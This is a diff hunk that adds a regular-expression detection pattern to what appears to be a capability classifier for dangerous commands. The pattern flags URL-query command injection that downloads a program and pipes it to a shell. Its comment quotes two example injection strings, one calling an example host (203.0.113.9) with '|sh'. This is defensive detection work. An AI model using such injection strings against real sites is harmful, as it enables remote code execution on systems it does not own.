@@ -1400,6 +1400,17 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             + r"\d{1,3}(?:\.\d{1,3}){3}\b",
             _I,
         ),
+        # a command injected into a URL's query that fetches a program and pipes it to a shell
+        # (`curl 'https://host/cgi-bin/status.cgi?host=127.0.0.1;curl%20http://203.0.113.9/x|sh'`,
+        # `wget -qO- "https://host/ping?ip=1%7Cwget+-qO-+http://.../s+%7C+bash"`): the site runs
+        # the caller's program; the same against one's own machine or network is a lab
+        re.compile(
+            r"\b(?:curl|wget|Invoke-WebRequest|iwr)\b[^\n]*?https?://(?!localhost\b|\[?::1\]?|127\.|"
+            + PRIVATE_IPV4
+            + r")[^\s'\"/?]+[^\s'\"?]*\?[^\s'\"]*?(?:;|%3B|\||%7C|%60|`|\$\(|%24%28|%0A|&&|%26%26)"
+            r"(?:%20|\+|\s)*(?:curl|wget)(?:%20|\+)[^\s'\"]*?(?:\||%7C)(?:%20|\+)*(?:ba|z|da)?sh\b",
+            _I,
+        ),
     ),
     Capability.SHADOW_DELETE: (
         # a bucket's versioning suspended and its objects deleted, or backup recovery points and
